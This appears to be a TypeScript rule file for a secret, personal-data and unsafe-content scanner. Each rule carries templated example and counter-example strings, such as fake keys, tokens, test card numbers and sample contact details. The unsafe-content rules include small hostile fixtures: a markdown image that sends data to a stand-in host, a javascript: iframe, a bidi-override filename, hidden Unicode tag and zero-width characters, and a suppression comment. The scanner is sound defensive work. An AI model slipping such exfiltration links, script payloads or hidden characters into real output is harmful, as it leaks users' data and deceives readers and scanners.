import { define, type RuleDefinition } from '../rule/definition.js';

const critical = { severity: 'critical' } as const;
const context = { confidence: 'context' } as const;
const quarantine = { action: 'quarantine' } as const;
const alert = { action: 'alert' } as const;

/** Secrets that are found by their grammar rather than by a fixed text. */
export const grammarRules: readonly RuleDefinition[] = [
  define('secret.private-key', {
    ...critical,
    ...quarantine,
    examples: [
      '«-----BEGIN RSA PRIVATE KEY-----\n{base64:64}\n{base64:64}\n{base64:20}\n-----END RSA PRIVATE KEY-----»',
    ],
    counterExamples: ['-----BEGIN PUBLIC KEY-----\n{base64:64}\n-----END PUBLIC KEY-----'],
  }),
  define('secret.putty-private-key', {
    ...critical,
    ...quarantine,
    examples: [
      '«PuTTY-User-Key-File-2: ssh-rsa\nEncryption: none\nPublic-Lines: 1\n{base64:64}\nPrivate-Lines: 1\n{base64:64}\nPrivate-MAC: {hex:40}»\n',
    ],
    counterExamples: ['PuTTY-User-Key-File-2: ssh-rsa\nEncryption: none\n'],
  }),
  define('secret.aws-secret-access-key', {
    ...critical,
    ...context,
    examples: ['AWS_SECRET_ACCESS_KEY=«{base64:40}»'],
    counterExamples: ['AWS_SECRET_ACCESS_KEY=${SECRET}'],
  }),
  define('secret.discord-bot-token', {
    examples: ['login «MTkyODk2NjIyODU2MTg0MDgw.{token:6}.{alnum:38}»'],
    counterExamples: ['login MTkyODk2NjIyODU2MTg0MDgw.short'],
  }),
  define('secret.jwt', {
    examples: ['«eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.{token:43}»'],
    counterExamples: ['eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9'],
  }),
  define('secret.database-connection-string', {
    ...context,
    examples: ['postgres://app:«Maple{realdigits:3}{alnum:9}»@db.corp:5432/main'],
    counterExamples: ['postgres://${USER}:${PASS}@db.corp:5432/main'],
  }),
  define('secret.basic-auth-url', {
    ...context,
    examples: ['ftp://deploy:«Maple{realdigits:3}{alnum:9}»@files.corp/in'],
    counterExamples: ['https://host:8080/path@tag'],
  }),
  define('secret.http-basic-authorization', {
    ...context,
    examples: ['Proxy uses Basic «Y2ktYm90OmhsbEkxMVk4MEkxa0JNM2U=» now'],
    counterExamples: ['Basic authentication is required.'],
  }),
  define('secret.docker-config-auth', {
    ...context,
    examples: ['{"auths": {"registry": {"auth": "«Y2ktYm90OmhsbEkxMVk4MEkxa0JNM2U=»"}}}'],
    counterExamples: ['{"auths": {"registry": {"auth": ""}}}'],
  }),
  define('secret.http-bearer', {
    ...context,
    examples: ['send Bearer «{hex:40}» with it'],
    counterExamples: ['Authorization: Bearer YOUR_TOKEN'],
  }),
  define('secret.framework-secret-key', {
    ...context,
    examples: ["SECRET_KEY = '«{alnum:20}!{alnum:20}(+{alnum:6}»'", 'APP_KEY=base64:«{base64:43}=»'],
    counterExamples: ["SECRET_KEY = os.environ['SECRET_KEY']"],
  }),
  define('secret.kubernetes-secret-yaml', {
    ...context,
    examples: ['kind: Secret\ndata:\n  password: «SjdJUk5BeG9nYkNxSUlMZEwzd20=»\n'],
    counterExamples: ['kind: Secret\nmetadata:\n  name: app-secrets\n'],
  }),
];

/** Secrets that only a name beside them gives away. */
export const namedValueRules: readonly RuleDefinition[] = [
  define('secret.password-assignment', {
    ...context,
    examples: ['SMTP_PASSWORD=«Maple{realdigits:3}{alnum:9}»'],
    counterExamples: ['SMTP_PASSWORD=changeme'],
  }),
  define('secret.generic-api-key', {
    ...context,
    severity: 'medium',
    examples: ['{"api_key": "«{alnum:32}»"}'],
    counterExamples: ['{"api_key": "your_api_key_here"}'],
  }),
];

/** Details that name a person or an account by their form alone. */
export const personalDetailRules: readonly RuleDefinition[] = [
  define('pii.CREDIT_CARD', {
    ...critical,
    confidence: 'verified-format',
    examples: ['card «4111{realdigits:0}111111111111»'],
    counterExamples: ['card 4111111111111112'],
  }),
  define('pii.IBAN_CODE', {
    confidence: 'verified-format',
    examples: ['pay to «GB82 WEST 1234 5698 7654 32»'],
    counterExamples: ['pay to GB83 WEST 1234 5698 7654 32'],
  }),
  define('pii.CRYPTO', {
    confidence: 'verified-format',
    examples: ['send to «1BoatSLRHtKNngkdXEeobR76b53LETtpyT»'],
    counterExamples: ['send to 1BoatSLRHtKNngkdXEeobR76b53LETtpyU'],
  }),
  define('pii.EMAIL_ADDRESS', {
    severity: 'medium',
    confidence: 'format',
    examples: ['ask «maya.novak@northwind-traders.com»'],
    counterExamples: ['user@example.com', 'git@github.com:org/repo.git'],
  }),
  define('pii.PHONE_NUMBER', {
    severity: 'medium',
    confidence: 'format',
    examples: ['call «+44 7400 109212»'],
    counterExamples: ['EAN-13: 4006381333931'],
  }),
  define('pii.IP_ADDRESS', {
    severity: 'low',
    confidence: 'format',
    examples: ['client_ip=«81.47.190.12»'],
    counterExamples: ['Chrome/120.0.6099.71', 'listening on 127.0.0.1:80'],
  }),
  define('pii.MAC_ADDRESS', {
    severity: 'low',
    confidence: 'format',
    examples: ['hwaddr «b3:d3:b1:e1:a3:5a»'],
    counterExamples: ['build 01:02:03', 'ff:ff:ff:ff:ff:ff'],
  }),
];

/** Content that acts on whoever reads it, and content that is aimed at the scanner. */
export const unsafeRules: readonly RuleDefinition[] = [
  define('unsafe.canary-hit', { ...critical, ...quarantine, confidence: 'verified-format' }),
  define('unsafe.archive-bomb', quarantine),
  define('unsafe.scan-limit', quarantine),
  define('unsafe.unicode-tags', {
    examples: ['hello«\u{e0049}\u{e0067}\u{e006e}» there'],
    counterExamples: ['\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}'],
  }),
  define('unsafe.bidi-override', {
    examples: ['report«\u202efdp.scr\u202c» saved'],
    counterExamples: ['\u2068name\u2069 joined'],
  }),
  define('unsafe.invisible-text', {
    severity: 'medium',
    examples: ['a«\u200b\u200c\u200b\u200c\u200b»b'],
    counterExamples: ['\u{1f469}\u200d\u{1f4bb} works'],
  }),
  define('unsafe.ansi-escape', {
    severity: 'medium',
    examples: ['ok«\x1b]0;title\x07» done'],
    counterExamples: ['\x1b[31merror\x1b[0m'],
  }),
  define('unsafe.html-script', {
    examples: ['<p>ok</p>«<iframe src="javascript:alert(1)"></iframe>»'],
    counterExamples: ['<p class="a">ok</p>'],
  }),
  define('unsafe.markdown-exfil', {
    examples: ['see «![s](https://collect.host/p.png?d={alnum:48})»'],
    counterExamples: ['![build](https://img.shields.io/badge/build-passing-green.svg?branch=main)'],
  }),
  define('unsafe.url-scheme', {
    examples: ['[here](«data:text/html;base64,{hex:40}»)'],
    counterExamples: ['data:image/png;base64,{hex:40}'],
  }),
  define('unsafe.forged-marker', { severity: 'medium' }),
  define('unsafe.suppression-marker', {
    severity: 'low',
    ...alert,
    examples: ['x = 1 # «gitleaks:allow»'],
    counterExamples: ['the allowlist is empty'],
  }),
];
